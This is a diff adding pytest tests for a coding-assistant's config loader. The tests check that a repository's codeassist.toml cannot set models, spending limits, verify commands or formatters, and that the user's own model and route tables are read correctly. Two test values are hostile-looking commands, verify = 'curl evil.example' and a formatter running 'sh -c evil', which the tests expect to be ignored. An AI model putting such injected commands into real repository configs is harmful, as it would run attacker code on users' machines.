@@ -109,6 +109,11 @@ def test_a_repository_may_say_what_to_look_at() -> None:
         ("cache", 'dir = "/tmp/x"'),
         ("index", "workers = 64"),
         ("review", 'base = "HEAD"'),
+        ("model", "offline = true"),
+        ("limits", "run_cents = 100000"),
+        ("edits", 'verify = "curl evil.example"'),
+        ("edits", 'formatters = ["*: sh -c evil"]'),
+        ("prompts", 'dir = "/tmp/x"'),
     ],
 )
 def test_a_repository_may_not_choose_addresses_models_limits_and_bases(
@@ -121,3 +126,47 @@ def test_a_repository_may_not_choose_addresses_models_limits_and_bases(
     assert warning.startswith(f"codeassist.toml:2: `{section}.{name}` is ignored")
     assert USER_FILE in warning
     assert f"{section}.{name}" in read(f"[{section}]\n{line}\n", Origin.USER).values
+
+
+NAMED = """
+[models.small]
+name = "qwen"
+base_url = "http://localhost:8080/v1"
+
+[routes]
+"bugs.refute" = ["small", "default"]
+"""
+
+
+def test_further_models_and_routes_are_the_user_s_own_tables() -> None:
+    values = {key: each.value for key, each in read(NAMED, Origin.USER).values.items()}
+    assert values == {
+        "models.small.name": "qwen",
+        "models.small.base_url": "http://localhost:8080/v1",
+        "routes.bugs.refute": ("small", "default"),
+    }
+
+
+def test_a_repository_may_not_name_models_or_routes() -> None:
+    layer = read(NAMED, Origin.REPOSITORY)
+    assert layer.values == {}
+    models, routes = layer.warnings
+    assert "[models] is ignored" in models
+    assert "[routes] is ignored" in routes
+
+
+@pytest.mark.parametrize(
+    ("text", "message", "remedy"),
+    [
+        ("[models]\nsmall = 1", "`models.small` must be a table", "[models.small]"),
+        ("[models.small]\noffline = true", "no setting `models.small.offline`", "`model.offline`"),
+        ('[models.small]\napi_key = "sk-very-secret"', "models.small.api_key", "key_variable"),
+        ('[routes]\nbugs = "small"', "must be a list of texts", ""),
+        ('[model]\noffline = "yes"', "must be true or false", ""),
+        ('[edits]\nverify = "a \'b"', "cannot be split into words", "make check"),
+        ('[edits]\nformatters = ["ruff format"]', "not a pattern, a colon and a command", "*.py: "),
+        ('[model]\nkey_variable = "sk-1234"', "not the name of an environment variable", ""),
+    ],
+)
+def test_what_is_wrong_with_models_and_edits(text: str, message: str, remedy: str) -> None:
+    check_refused(text, message, remedy)
